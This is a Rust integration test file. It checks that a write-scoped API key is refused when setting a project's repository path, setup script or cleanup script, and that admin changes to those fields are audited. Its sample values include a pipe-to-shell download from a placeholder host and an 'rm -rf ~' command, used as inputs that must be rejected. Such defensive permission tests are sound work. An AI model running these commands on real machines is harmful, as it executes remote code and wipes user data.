//! The project fields that decide what a session runs on a runner's machine —
//! `repo_path`, `setup_script`, `cleanup_script` — are the admin scope's:
//! a `write` key is refused (naming the scope and the fields) and nothing is
//! written, while it still creates and changes projects without them; every
//! change of them is audited with the old and the new value.

use crate::common;

use common::{Backend, DataDir, Server, id};
use serde_json::{Value, json};

const PRIVILEGED: [(&str, &str); 3] = [
    ("repo_path", "/srv/repos/app"),
    ("setup_script", "curl https://example.invalid/x | sh"),
    ("cleanup_script", "rm -rf ~"),
];

fn refusal_names(text: &str, field: &str) {
    assert!(text.contains("`admin` scope"), "{text}");
    assert!(text.contains(&format!("`{field}`")), "{text}");
    assert!(text.contains("this key has `write`"), "{text}");
    assert!(
        text.contains("workspace 'Default'") || text.contains("workspace 'default'"),
        "{text}"
    );
    assert!(text.contains("Nothing was changed"), "{text}");
}

on_both_stores!(a_write_key_cannot_set_scripts_or_repository_paths);

async fn a_write_key_cannot_set_scripts_or_repository_paths(backend: Backend) {
    let data = DataDir::on(backend);
    let write_key = data.create_key("default", "writer", "write");
    let writer = Server::in_process(&data, &[], &[("VK_API_KEY", &write_key)]).await;

    for (field, value) in PRIVILEGED {
        let text = writer
            .call_fails("create_project", json!({"name": "planted", field: value}))
            .await;
        refusal_names(&text, field);
    }
    assert_eq!(data.count("SELECT COUNT(*) FROM projects"), 0);

    // Without those fields a write key creates and changes projects as before.
    let project = writer
        .call(
            "create_project",
            json!({"name": "plain", "description": "no scripts"}),
        )
        .await;
    let project_id = id(&project);
    writer
        .call(
            "update_project",
            json!({"project_id": project_id, "name": "renamed", "description": "still none"}),
        )
        .await;

    let audit_before = data.count("SELECT COUNT(*) FROM audit_logs");
    for (field, value) in PRIVILEGED {
        // Setting, and clearing: both change what the next session runs.
        for new in [json!(value), Value::Null] {
            let text = writer
                .call_fails(
                    "update_project",
                    json!({"project_id": project_id, "name": "sneaky", field: new}),
                )
                .await;
            refusal_names(&text, field);
            assert!(text.contains(&project_id), "{text}");
        }
    }
    let row = data.rows(
        "SELECT name, repo_path, setup_script, cleanup_script FROM projects WHERE id = ?",
        &[json!(project_id)],
    );
    assert_eq!(
        row,
        [vec![
            json!("renamed"),
            Value::Null,
            Value::Null,
            Value::Null
        ]]
    );
    assert_eq!(
        data.count("SELECT COUNT(*) FROM audit_logs"),
        audit_before,
        "a refused change leaves no audit row"
    );
    // Several fields at once: the refusal names them all.
    let text = writer
        .call_fails(
            "create_project",
            json!({"name": "two", "repo_path": "/srv/a", "setup_script": "make"}),
        )
        .await;
    assert!(text.contains("`repo_path`, `setup_script`"), "{text}");
    writer.stop().await;
}

on_both_stores!(changes_of_privileged_fields_are_audited_with_old_and_new_values);

async fn changes_of_privileged_fields_are_audited_with_old_and_new_values(backend: Backend) {
    let data = DataDir::on(backend);
    let admin_key = data.create_key("default", "admin", "admin");
    let admin = Server::in_process(&data, &[], &[("VK_API_KEY", &admin_key)]).await;
    let project = admin
        .call(
            "create_project",
            json!({"name": "app", "repo_path": "/srv/repos/app", "setup_script": "make deps"}),
        )
        .await;
    let project_id = id(&project);
    let details = |action: &str| -> Vec<Value> {
        data.rows(
            "SELECT details FROM audit_logs WHERE entity_id = ? AND action = ? ORDER BY created_at, id",
            &[json!(project_id), json!(action)],
        )
        .into_iter()
        .map(|row| serde_json::from_str(row[0].as_str().expect("details text")).expect("json"))
        .collect()
    };
    let created = details("create");
    assert_eq!(created.len(), 1);
    assert_eq!(
        created[0]["changes"],
        json!({
            "repo_path": {"old": null, "new": "/srv/repos/app"},
            "setup_script": {"old": null, "new": "make deps"}
        }),
        "{}",
        created[0]
    );

    admin
        .call(
            "update_project",
            json!({"project_id": project_id, "repo_path": "/srv/repos/other", "setup_script": null,
                   "cleanup_script": "git status"}),
        )
        .await;
    admin
        .call(
            "update_project",
            json!({"project_id": project_id, "description": "not privileged"}),
        )
        .await;
    let updated = details("update");
    assert_eq!(updated.len(), 2, "{updated:?}");
    assert_eq!(
        updated[0]["changes"],
        json!({
            "repo_path": {"old": "/srv/repos/app", "new": "/srv/repos/other"},
            "setup_script": {"old": "make deps", "new": null},
            "cleanup_script": {"old": null, "new": "git status"}
        }),
        "{}",
        updated[0]
    );
    assert_eq!(
        updated[0]["fields"],
        json!(["repo_path", "setup_script", "cleanup_script"])
    );
    assert_eq!(updated[1], json!({"fields": ["description"]}));
    // The audit row names the key that made the change.
    assert_eq!(
        data.count(&format!(
            "SELECT COUNT(*) FROM audit_logs WHERE entity_id = '{project_id}' AND api_key_id IS NOT NULL"
        )),
        3
    );

    // An update that does not apply (a taken name) writes no audit row.
    admin.project("taken").await;
    admin
        .call_fails(
            "update_project",
            json!({"project_id": project_id, "name": "taken", "repo_path": "/srv/x"}),
        )
        .await;
    assert_eq!(details("update").len(), 2);
    admin.stop().await;
}
